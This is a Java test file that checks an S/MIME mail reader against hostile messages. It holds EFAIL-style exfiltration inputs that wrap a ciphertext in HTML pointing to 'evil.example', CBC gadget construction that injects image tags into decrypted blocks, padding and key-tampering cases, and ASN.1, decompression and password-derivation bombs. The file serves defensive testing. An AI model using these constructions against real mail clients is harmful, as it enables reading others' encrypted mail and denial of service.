package org.postern.opening;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.postern.opening.ReaderWorld.ANN;
import static org.postern.opening.ReaderWorld.ANNA;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.lang.management.ManagementFactory;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;
import java.util.SplittableRandom;
import org.bouncycastle.asn1.ASN1EncodableVector;
import org.bouncycastle.asn1.ASN1ObjectIdentifier;
import org.bouncycastle.asn1.ASN1OctetString;
import org.bouncycastle.asn1.ASN1Set;
import org.bouncycastle.asn1.DEROctetString;
import org.bouncycastle.asn1.DERSet;
import org.bouncycastle.asn1.DERUTF8String;
import org.bouncycastle.asn1.cms.Attribute;
import org.bouncycastle.asn1.cms.AuthEnvelopedData;
import org.bouncycastle.asn1.cms.CMSObjectIdentifiers;
import org.bouncycastle.asn1.cms.ContentInfo;
import org.bouncycastle.asn1.cms.EncryptedContentInfo;
import org.bouncycastle.asn1.cms.EnvelopedData;
import org.bouncycastle.asn1.cms.PasswordRecipientInfo;
import org.bouncycastle.asn1.cms.RecipientInfo;
import org.bouncycastle.asn1.cms.SignedData;
import org.bouncycastle.asn1.cms.SignerInfo;
import org.bouncycastle.asn1.pkcs.PBKDF2Params;
import org.bouncycastle.asn1.pkcs.PKCSObjectIdentifiers;
import org.bouncycastle.asn1.x509.AlgorithmIdentifier;
import org.bouncycastle.cms.CMSAlgorithm;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.postern.testkit.ReadingInLittleHeap;
import org.postern.testkit.SmimeMail;
import org.postern.testkit.SmimeMail.By;

/// Messages made to hurt whoever opens them by himself (C01, C02, C03, C12): nothing that came is
/// given out changed or put together with something else, and every bomb has a verdict in time.
final class SmimeHostileTest {
    private static final long CPU_NANOS_MAX = 2_000_000_000;
    private static final int BLOCK = 16;

    private static final String FROM = SmimeMail.from("ann@partner.example");
    private static final String SECRET =
            "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
                    + "Content-Type: text/plain\r\n\r\n"
                    + "The biopsy of Mr. Canary is benign, and nobody else shall know. ".repeat(8)
                    + "\r\n--b--\r\n";

    @TempDir Path folder;

    private ReaderWorld world;

    @BeforeEach
    void open() throws IOException {
        world = new ReaderWorld(folder);
    }

    /// C01: twenty ways to put a ciphertext between two pieces of somebody else's HTML.
    @Test
    void nothingIsPutTogetherWithACiphertext() throws IOException {
        String cipher = SmimeMail.gcm(SECRET, ANNA);
        String before = "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/";
        String after = "Content-Type: text/html\r\n\r\n\">";
        List<String> shapes = new ArrayList<>();
        for (String type : List.of("mixed", "alternative", "related", "digest", "parallel")) {
            shapes.add(multipart(type, before, cipher, after));
            shapes.add(multipart(type, cipher, after));
            shapes.add(multipart("mixed", before, multipart(type, cipher), after));
            shapes.add(
                    multipart(
                            type,
                            before,
                            "Content-Type: message/rfc822\r\n\r\n" + FROM + cipher,
                            after));
        }
        assertEquals(20, shapes.size());
        for (String shape : shapes) {
            Reading reading = world.read(FROM + shape);
            assertEquals("parts-only:", ReaderWorld.codes(reading), shape);
            assertTrue(reading.opened().isEmpty());
        }
    }

    private static String multipart(String type, String... parts) {
        String boundary = "b" + Arrays.hashCode(parts);
        StringBuilder text = new StringBuilder("Content-Type: multipart/");
        text.append(type).append("; boundary=").append(boundary).append("\r\n\r\n");
        for (String part : parts) {
            text.append("--").append(boundary).append("\r\n").append(part).append("\r\n");
        }
        return text.append("--").append(boundary).append("--\r\n").toString();
    }

    /// C02: ten gadgets. The attacker knows the first block of the plaintext, writes blocks of his
    /// own by it, and gets a random block with each.
    @Test
    void blocksPutTogetherAnewAreNotGivenOut() throws IOException {
        byte[] cms = SmimeMail.cbc(SECRET, CMSAlgorithm.AES256_CBC, ANNA);
        EncryptedContentInfo content = enveloped(cms).getEncryptedContentInfo();
        byte[] vector =
                ASN1OctetString.getInstance(content.getContentEncryptionAlgorithm().getParameters())
                        .getOctets();
        byte[] blocks = content.getEncryptedContent().getOctets();
        byte[] known = SECRET.substring(0, BLOCK).getBytes(ISO_8859_1);
        byte[] first = Arrays.copyOf(blocks, BLOCK);
        byte[] rest = Arrays.copyOfRange(blocks, BLOCK, blocks.length);
        List<String> texts =
                List.of(
                        "<img ignore=\"    ",
                        "\" src=\"//e.x/?q=",
                        "<base ignore=\"   ",
                        "\" href=\"http:\">.");
        for (int variant = 1; variant <= 10; variant++) {
            ByteArrayOutputStream changed = new ByteArrayOutputStream();
            changed.writeBytes(first);
            for (int i = 0; i < variant; i++) {
                byte[] text = texts.get(i % texts.size()).getBytes(ISO_8859_1);
                changed.writeBytes(xor(xor(vector, known), text));
                changed.writeBytes(first);
            }
            changed.writeBytes(rest);
            closed("not-opened: not-opened", with(cms, changed.toByteArray()));
        }
        // The message as it was still opens.
        closed("encrypted-unauthenticated: opened-unauthenticated", with(cms, blocks));
        // Cut, swapped, one bit changed.
        closed("not-opened: not-opened", with(cms, Arrays.copyOf(blocks, blocks.length - 16)));
        closed("not-opened: not-opened", with(cms, Arrays.copyOf(blocks, blocks.length - 1)));
        closed("not-opened: not-opened", with(cms, new byte[0]));
        byte[] swapped = blocks.clone();
        System.arraycopy(blocks, 0, swapped, BLOCK, BLOCK);
        closed("not-opened: not-opened", with(cms, swapped));
        byte[] flipped = blocks.clone();
        flipped[40] ^= 1;
        closed("not-opened: not-opened", with(cms, flipped));
    }

    /// C02: an authenticated ciphertext under another name opens nothing.
    @Test
    void aLabelDoesNotTakeTheTagAway() throws IOException {
        String message = SmimeMail.gcm(SECRET, ANNA);
        byte[] cms = java.util.Base64.getMimeDecoder().decode(message.split("\r\n\r\n", 2)[1]);
        AuthEnvelopedData data =
                AuthEnvelopedData.getInstance(ContentInfo.getInstance(cms).getContent());
        byte[] blocks = data.getAuthEncryptedContentInfo().getEncryptedContent().getOctets();
        ASN1Set recipients = data.getRecipientInfos();
        for (ASN1ObjectIdentifier label :
                List.of(CMSAlgorithm.AES256_CBC, CMSAlgorithm.AES128_CBC)) {
            for (int length = BLOCK;
                    length <= blocks.length - blocks.length % BLOCK;
                    length += BLOCK) {
                AlgorithmIdentifier algorithm =
                        new AlgorithmIdentifier(label, new DEROctetString(new byte[BLOCK]));
                closed(
                        "not-opened: not-opened",
                        enveloped(recipients, algorithm, Arrays.copyOf(blocks, length)));
            }
        }
        closed(
                "not-opened: unsupported",
                enveloped(
                        recipients,
                        data.getAuthEncryptedContentInfo().getContentEncryptionAlgorithm(),
                        blocks));
    }

    /// C03: whatever is wrong with a message that names our key, the answer is one.
    @Test
    void allFailuresAreOne() throws IOException {
        byte[] cms = SmimeMail.cbc(SECRET, CMSAlgorithm.AES256_CBC, ANNA);
        EnvelopedData data = enveloped(cms);
        int wrapped = HexFormat.of().formatHex(cms).indexOf("04820100") / 2 + 4;
        byte[] blocks = data.getEncryptedContentInfo().getEncryptedContent().getOctets();
        SplittableRandom random = new SplittableRandom(1);
        for (int i = 0; i < 300; i++) {
            byte[] key = cms.clone();
            key[wrapped + random.nextInt(1, 256)] ^= (byte) (1 << random.nextInt(8));
            closed("not-opened: not-opened", key);
            byte[] padding = blocks.clone();
            padding[padding.length - 1 - random.nextInt(BLOCK)] ^= (byte) random.nextInt(1, 256);
            closed("not-opened: not-opened", with(cms, padding));
            AlgorithmIdentifier other =
                    new AlgorithmIdentifier(
                            CMSAlgorithm.AES128_CBC,
                            data.getEncryptedContentInfo()
                                    .getContentEncryptionAlgorithm()
                                    .getParameters());
            closed("not-opened: not-opened", with(cms, blocks, other));
        }
    }

    /// C12: each bomb ends, and in time.
    @Test
    void bombsEndInTime() throws IOException {
        List<String> bombs = bombs();
        for (String bomb : bombs) {
            long begin = ManagementFactory.getThreadMXBean().getCurrentThreadCpuTime();
            Reading reading = world.read(FROM + bomb);
            long nanos = ManagementFactory.getThreadMXBean().getCurrentThreadCpuTime() - begin;
            int number = bombs.indexOf(bomb);
            assertFalse(reading.verdict().isSigned(), "bomb " + number);
            assertTrue(nanos < CPU_NANOS_MAX, "bomb " + number + ": " + nanos / 1_000_000 + " ms");
        }
    }

    /// And in little memory: in 64 MiB beside the message, all that the JVM itself needs included.
    @Test
    void bombsTakeLittleMemory() throws Exception {
        ReadingInLittleHeap.read(folder, ANNA, bombs().stream().map(bomb -> FROM + bomb).toList());
    }

    private static List<String> bombs() throws IOException {
        byte[] signed = SmimeMail.signature("x", true, By.ec(ANN));
        SignedData data = SignedData.getInstance(ContentInfo.getInstance(signed).getContent());
        List<String> bombs = new ArrayList<>();
        for (int depth : new int[] {100, 3_000, 100_000, 500_000}) {
            byte[] nested = new byte[2 * depth];
            for (int i = 0; i < nested.length; i += 2) {
                nested[i] = 0x30;
                nested[i + 1] = (byte) 0x80;
            }
            bombs.add(SmimeMail.object("signed-data", nested));
            bombs.add(SmimeMail.object("signed-data", joined(head("0702"), nested)));
            bombs.add(SmimeMail.object("enveloped-data", joined(head("0703"), nested)));
            // In place of the digests, of the recipients, of the certificates.
            bombs.add(
                    SmimeMail.object(
                            "signed-data",
                            joined(head("0702"), hex("3080020101"), hex("3180"), nested)));
            bombs.add(
                    SmimeMail.object(
                            "enveloped-data",
                            joined(head("0703"), hex("3080020100"), hex("3180"), nested)));
            bombs.add(
                    SmimeMail.object(
                            "signed-data",
                            joined(
                                    head("0702"),
                                    hex(
                                            "3080020101310030800609"
                                                    + "2a864886f70d010701"
                                                    + "0000a080"),
                                    nested)));
            bombs.add(
                    SmimeMail.object(
                            "signed-data",
                            joined(
                                    head("0702"),
                                    hex(
                                            "3080020101310030800609"
                                                    + "2a864886f70d010701"
                                                    + "00003180"),
                                    nested)));
        }
        // 4 GB are announced.
        bombs.add(
                SmimeMail.object(
                        "signed-data",
                        joined(hex("3084ffffffff0609"), hex("2a864886f70d010702"), new byte[100])));
        bombs.add(
                SmimeMail.object(
                        "enveloped-data",
                        joined(head("0703"), hex("3084ffffffff"), new byte[100])));
        bombs.add(SmimeMail.object("signed-data", manyAttributes(data)));
        bombs.add(SmimeMail.object("signed-data", manySigners(data)));
        bombs.add(SmimeMail.object("signed-data", manyCertificates(data)));
        bombs.add(SmimeMail.object("enveloped-data", manyRecipients()));
        bombs.add(SmimeMail.object("enveloped-data", slowPassword()));
        bombs.add(SmimeMail.compressed(new byte[50_000_000]));
        String layered = "Content-Type: text/plain\r\n\r\nx\r\n";
        for (int i = 0; i < 20; i++) {
            layered =
                    switch (i % 3) {
                        case 0 -> SmimeMail.compressed(layered.getBytes(ISO_8859_1));
                        case 1 -> SmimeMail.gcm(layered, ANNA);
                        default -> SmimeMail.opaque(layered, By.ec(ANN));
                    };
        }
        bombs.add(layered);
        return bombs;
    }

    private static byte[] manyAttributes(SignedData data) throws IOException {
        ASN1EncodableVector attributes = new ASN1EncodableVector();
        for (int i = 0; i < 100_000; i++) {
            attributes.add(
                    new Attribute(
                            new ASN1ObjectIdentifier("1.2.3." + i),
                            new DERSet(new DERUTF8String("x"))));
        }
        SignerInfo signer = SignerInfo.getInstance(data.getSignerInfos().getObjectAt(0));
        return signed(
                data,
                data.getCertificates(),
                new DERSet(
                        new SignerInfo(
                                signer.getSID(),
                                signer.getDigestAlgorithm(),
                                new DERSet(attributes),
                                signer.getDigestEncryptionAlgorithm(),
                                signer.getEncryptedDigest(),
                                (ASN1Set) null)));
    }

    private static byte[] manySigners(SignedData data) throws IOException {
        ASN1EncodableVector signers = new ASN1EncodableVector();
        for (int i = 0; i < 2_000; i++) {
            signers.add(data.getSignerInfos().getObjectAt(0));
        }
        return signed(data, data.getCertificates(), new DERSet(signers));
    }

    private static byte[] manyCertificates(SignedData data) throws IOException {
        ASN1EncodableVector certificates = new ASN1EncodableVector();
        for (int i = 0; i < 1_500; i++) {
            certificates.add(data.getCertificates().getObjectAt(0));
        }
        return signed(data, new DERSet(certificates), data.getSignerInfos());
    }

    private static byte[] signed(SignedData data, ASN1Set certificates, ASN1Set signers)
            throws IOException {
        return new ContentInfo(
                        CMSObjectIdentifiers.signedData,
                        new SignedData(
                                data.getDigestAlgorithms(),
                                data.getEncapContentInfo(),
                                certificates,
                                null,
                                signers))
                .getEncoded();
    }

    private static byte[] manyRecipients() throws IOException {
        EnvelopedData data = enveloped(SmimeMail.cbc(SECRET, CMSAlgorithm.AES256_CBC, ANNA));
        ASN1EncodableVector recipients = new ASN1EncodableVector();
        for (int i = 0; i < 100_000; i++) {
            recipients.add(data.getRecipientInfos().getObjectAt(0));
        }
        return enveloped(
                new DERSet(recipients),
                data.getEncryptedContentInfo().getContentEncryptionAlgorithm(),
                new byte[32]);
    }

    /// Nobody's password is asked, so nothing is derived from one.
    private static byte[] slowPassword() throws IOException {
        PasswordRecipientInfo password =
                new PasswordRecipientInfo(
                        new AlgorithmIdentifier(
                                PKCSObjectIdentifiers.id_PBKDF2,
                                new PBKDF2Params(new byte[8], Integer.MAX_VALUE)),
                        new AlgorithmIdentifier(CMSAlgorithm.AES256_WRAP),
                        new DEROctetString(new byte[40]));
        return enveloped(
                new DERSet(new RecipientInfo(password)),
                new AlgorithmIdentifier(CMSAlgorithm.AES256_CBC, new DEROctetString(new byte[16])),
                new byte[32]);
    }

    private void closed(String codes, byte[] cms) throws IOException {
        assertEquals(
                codes,
                ReaderWorld.codes(world.read(FROM + SmimeMail.object("enveloped-data", cms))));
    }

    private static EnvelopedData enveloped(byte[] cms) {
        return EnvelopedData.getInstance(ContentInfo.getInstance(cms).getContent());
    }

    private static byte[] with(byte[] cms, byte[] blocks) throws IOException {
        return with(
                cms,
                blocks,
                enveloped(cms).getEncryptedContentInfo().getContentEncryptionAlgorithm());
    }

    private static byte[] with(byte[] cms, byte[] blocks, AlgorithmIdentifier algorithm)
            throws IOException {
        return enveloped(enveloped(cms).getRecipientInfos(), algorithm, blocks);
    }

    private static byte[] enveloped(
            ASN1Set recipients, AlgorithmIdentifier algorithm, byte[] blocks) throws IOException {
        return new ContentInfo(
                        CMSObjectIdentifiers.envelopedData,
                        new EnvelopedData(
                                null,
                                recipients,
                                new EncryptedContentInfo(
                                        CMSObjectIdentifiers.data,
                                        algorithm,
                                        new DEROctetString(blocks)),
                                (ASN1Set) null))
                .getEncoded();
    }

    /// A ContentInfo of indefinite length, up to the tag around its content.
    private static byte[] head(String type) {
        return hex("308006092a864886f70d01" + type + "a080");
    }

    private static byte[] hex(String digits) {
        return HexFormat.of().parseHex(digits);
    }

    private static byte[] joined(byte[]... pieces) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        for (byte[] piece : pieces) {
            all.writeBytes(piece);
        }
        return all.toByteArray();
    }

    private static byte[] xor(byte[] one, byte[] other) {
        byte[] result = new byte[one.length];
        for (int i = 0; i < result.length; i++) {
            result[i] = (byte) (one[i] ^ other[i]);
        }
        return result;
    }
}
